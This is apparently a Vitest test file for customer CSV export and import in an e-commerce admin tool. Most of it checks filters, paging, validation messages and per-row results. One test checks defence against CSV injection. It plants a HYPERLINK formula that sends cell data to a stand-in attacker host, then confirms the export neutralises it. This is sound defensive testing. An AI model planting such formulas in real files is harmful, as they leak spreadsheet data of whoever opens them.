import type { Address, Customer, CustomerGroup } from '@medusajs/client-types'
import { resolveObjectURL } from 'node:buffer'
import { http, HttpResponse } from 'msw'
import { describe, expect, it } from 'vitest'
import { emptyContext, type CommandContext } from '@/models/core/context'
import { parseCsv } from '@/commands/core/csv'
import { CUSTOMER_CSV_COLUMNS } from '@/commands/customers/customer-csv'
import { EXPORT_PAGE } from '@/commands/customers/export-walk'
import { withMockDb } from '../../mocks/handlers'
import { BASE } from '../../mocks/http'
import { seedOrders } from '../../mocks/orders/orders'
import { server } from '../../mocks/server'
import { pick, recordRequests, requestsOf, runCommand, type HarnessRun } from '../harness'

const mock = withMockDb()
const seen = recordRequests()
const customers = () => seedOrders(mock.db).customers
const byEmail = (email: string) => customers().find((c) => c.email === email)
const groups = () => (mock.db as unknown as { customerGroups: CustomerGroup[] }).customerGroups
const group = (name: string) => groups().find((g) => g.name === name) as CustomerGroup

/** The CSV a download result holds (Node resolves the object URL csvDownload made). */
async function downloaded(run: HarnessRun): Promise<{ filename: string; text: string }> {
  if (run.outcome.status !== 'done' || run.outcome.result?.type !== 'download') throw new Error(`no download: ${JSON.stringify(run.outcome)}`)
  const { filename, url } = run.outcome.result
  const blob = resolveObjectURL(url)
  if (!blob) throw new Error('the object URL is gone')
  return { filename, text: await blob.text() }
}

const csvFile = (text: string, name = 'customers.csv') => [new File([text], name, { type: 'text/csv' })]

describe('customers.export', () => {
  it('writes the customers the table shows, with groups and addresses, without asking anything', async () => {
    const newsletter = group('Newsletter')
    const jane = byEmail('jane.doe@example.com') as Customer
    if (!jane.groups?.some((g) => g.name === 'Staff')) jane.groups = [...(jane.groups ?? []), group('Staff')]
    jane.phone = '+49 30 1'
    jane.shipping_addresses = [
      { id: 'addr_x', first_name: 'Jane', last_name: 'Doe', address_1: '1 Main St', city: 'Berlin', postal_code: '10115', country_code: 'de' } as Address,
    ]
    const run = await runCommand('customers.export', { given: { q: undefined, hasAccount: 'yes', groupIds: [newsletter.id] } })
    expect(run.prompted).toEqual([])
    const { filename, text } = await downloaded(run)
    expect(filename).toMatch(/^customers-\d{4}-\d{2}-\d{2}\.csv$/)
    const parsed = parseCsv(text)
    expect(parsed.columns).toEqual([...CUSTOMER_CSV_COLUMNS])
    // In creation order: the order of a walk by created_at (commands/customers/import-export.ts).
    const emails = ['emma.wilson@example.com', 'jane.doe@example.com', 'olivia.brown@example.co.uk', 'sofia.rossi@example.it']
    const createdAt = (email: string | undefined) => Date.parse(byEmail(email ?? '')?.created_at ?? '')
    expect([...parsed.rows.map((r) => r.email)].sort()).toEqual(emails)
    expect(parsed.rows.map((r) => createdAt(r.email))).toEqual(emails.map(createdAt).sort((a, b) => a - b))
    const janeRow = parsed.rows.find((r) => r.email === 'jane.doe@example.com')
    expect(janeRow).toMatchObject({
      first_name: 'Jane',
      phone: '+49 30 1',
      has_account: 'true',
      shipping_addresses: 'Jane Doe, 1 Main St, 10115 Berlin, DE',
    })
    expect(janeRow?.groups?.split('; ').sort()).toEqual(jane.groups?.map((g) => g.name).sort())
    expect(jane.groups?.length).toBeGreaterThan(1)
    const query = requestsOf(seen, 'GET', '/admin/customers')[0]?.query
    // Every group of each customer is written: the groups filter applies here, not on the server (which would join only that group).
    expect([query?.get('has_account'), query?.get('groups[0]'), query?.get('expand'), query?.get('order')]).toEqual([
      'true',
      null,
      'groups,shipping_addresses,billing_address',
      'created_at',
    ])
  })

  it('reads the filters of the customers table on screen (ctx.list) and pages through every match', async () => {
    const at = '2024-03-01T00:00:00.000Z'
    for (let i = 0; i < 130; i += 1) {
      customers().push({ ...(byEmail('jane.doe@example.com') as Customer), id: `cus_bulk_${i}`, email: `bulk${String(i).padStart(3, '0')}@shop.example`, created_at: at, groups: [] })
    }
    const ctx: CommandContext = { ...emptyContext, list: { kind: 'customer', query: { q: 'bulk', order: '-created_at' }, count: 130, description: "matching 'bulk'" } }
    const run = await runCommand('customers.export', { ctx })
    expect(run.prompted).toEqual([])
    const { text } = await downloaded(run)
    expect(parseCsv(text).rows).toHaveLength(130)
    // 130 created at one instant, fewer than a page: one page asked, all of them (a busy machine may see
    // that request sent again after a slow answer: never a second page, never an offset).
    const asked = requestsOf(seen, 'GET', '/admin/customers').map((r) => ['order', 'offset', 'created_at[gte]', 'limit'].map((key) => r.query.get(key)))
    expect([...new Set(asked.map((query) => JSON.stringify(query)))]).toEqual([JSON.stringify(['created_at', null, null, String(EXPORT_PAGE)])])
  })

  it('asks for the filters from elsewhere, and says so when nothing matches', async () => {
    const run = await runCommand('customers.export', { answers: { q: 'nobody-here', hasAccount: 'any', groupIds: [] } })
    expect(run.prompted).toEqual(['q', 'hasAccount', 'groupIds'])
    expect(run.outcome).toMatchObject({ status: 'failed', message: 'No customer matches these filters: nothing to export' })
  })
})

describe('customers.import', () => {
  const header = 'email,first_name,last_name,phone,groups'

  it('previews creates, updates and refusals with their lines, asks, then writes and reports per row', async () => {
    const text = [
      header,
      'new.person@example.com,New,Person,+1 555 0100,VIP',
      'JANE.DOE@example.com,,,+49 30 999,',
      'not-an-email,A,B,,',
      ',No,Email,,',
      'new.person@example.com,Again,Twice,,',
      'ghost@example.com,Gh,Ost,,Nonexistent',
      'nameless@example.com,,,,',
      'john.smith@example.com,John,Smith,,',
    ].join('\n')
    const run = await runCommand('customers.import', { answers: { file: csvFile(text), preview: pick('', 'Write: 1 to create, 1 to update, 1 unchanged, 5 refused') } })
    expect(run.prompted).toEqual(['file', 'preview', 'confirm'])
    expect(run.offered.preview?.[0]?.hint).toBe('Line 4 (not-an-email): Email must be an address like anna@example.com')
    expect(run.confirmations[0]).toBe(
      [
        'Import customers.csv: 1 to create, 1 to update, 1 unchanged, 5 refused.',
        'Refused lines are not written:',
        'Line 4 (not-an-email): Email must be an address like anna@example.com',
        'Line 5: Email is missing',
        'Line 6 (new.person@example.com): Duplicate: new.person@example.com is already on line 2',
        'Line 7 (ghost@example.com): No customer group named Nonexistent',
        'Line 8 (nameless@example.com): A new customer needs first_name and last_name',
        'Write the customers now?',
      ].join('\n'),
    )
    expect(run.outcome).toMatchObject({ status: 'done', result: { type: 'toast', title: 'Import: 1 created, 1 updated, 0 failed, 5 refused' } })
    const message = run.outcome.status === 'done' && run.outcome.result?.type === 'toast' ? run.outcome.result.message : ''
    expect(message?.split('\n').slice(0, 2)).toEqual(['Line 2 (new.person@example.com): created', 'Line 3 (jane.doe@example.com): updated'])
    expect(byEmail('new.person@example.com')).toMatchObject({ first_name: 'New', phone: '+1 555 0100', has_account: true })
    expect(byEmail('new.person@example.com')?.groups?.map((g) => g.name)).toEqual(['VIP'])
    // Empty cells keep what the customer had; only the phone changed.
    expect(byEmail('jane.doe@example.com')).toMatchObject({ first_name: 'Jane', last_name: 'Doe', phone: '+49 30 999' })
  })

  it('writes nothing and says why when no line can be written', async () => {
    const run = await runCommand('customers.import', { answers: { file: csvFile(`${header}\nbad,A,B,,\n`), preview: pick('', 'x') } })
    expect(run.outcome).toEqual({
      status: 'search-failed',
      arg: 'preview',
      message: 'Nothing to write: 0 to create, 0 to update, 1 refused. Line 2 (bad): Email must be an address like anna@example.com',
    })
    expect(requestsOf(seen, 'POST')).toEqual([])
  })

  it('refuses a file without an email column, and a file that is not a CSV', async () => {
    const run = await runCommand('customers.import', { answers: { file: csvFile('name,phone\nA,1\n'), preview: pick('', 'x') } })
    expect(run.outcome).toMatchObject({ status: 'search-failed', message: expect.stringContaining('customers.csv has no email column') })
    const wrong = await runCommand('customers.import', { answers: { file: [new File(['x'], 'list.xlsx')] } })
    expect(wrong.outcome).toEqual({ status: 'rejected', arg: 'file', message: 'CSV file takes .csv,text/csv only, not list.xlsx' })
  })

  it('reports a row the server refuses as failed and writes the others', async () => {
    server.use(
      http.post(`${BASE}/admin/customers`, () =>
        HttpResponse.json({ code: 'invalid_request_error', type: 'duplicate_error', message: 'A customer with the given email already has an account. Log in instead' }, { status: 422 }),
      ),
    )
    const text = `${header}\nfresh@example.com,Fresh,Face,,\njane.doe@example.com,Janet,,,\n`
    const run = await runCommand('customers.import', { answers: { file: csvFile(text), preview: pick('', 'Write: 1 to create, 1 to update') } })
    expect(run.outcome).toMatchObject({ status: 'done', result: { title: 'Import: 0 created, 1 updated, 1 failed' } })
    const message = run.outcome.status === 'done' && run.outcome.result?.type === 'toast' ? run.outcome.result.message : ''
    expect(message).toBe(
      'Line 2 (fresh@example.com): failed, A customer with the given email already has an account. Log in instead\nLine 3 (jane.doe@example.com): updated',
    )
    expect(byEmail('jane.doe@example.com')?.first_name).toBe('Janet')
  })

  it('writes a shopper’s formula-like name as text, and re-imports it unchanged (OWASP CSV injection)', async () => {
    const jane = byEmail('jane.doe@example.com') as Customer
    jane.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    jane.last_name = '+1+1'
    const exported = await downloaded(await runCommand('customers.export', { given: { q: undefined, hasAccount: 'any', groupIds: undefined } }))
    const line = exported.text.split('\r\n').find((l) => l.includes('jane.doe@example.com')) ?? ''
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
    expect(line).toContain(",'+1+1,")
    const run = await runCommand('customers.import', { answers: { file: csvFile(exported.text), preview: pick('', 'x') } })
    expect(run.outcome).toMatchObject({ status: 'search-failed', message: 'Nothing to write: 0 to create, 0 to update, 8 unchanged' })
  })

  it('re-imports its own export as unchanged', async () => {
    const exported = await downloaded(await runCommand('customers.export', { given: { q: undefined, hasAccount: 'any', groupIds: undefined } }))
    const run = await runCommand('customers.import', { answers: { file: csvFile(exported.text), preview: pick('', 'x') } })
    expect(run.outcome).toMatchObject({ status: 'search-failed', message: 'Nothing to write: 0 to create, 0 to update, 8 unchanged' })
  })
})
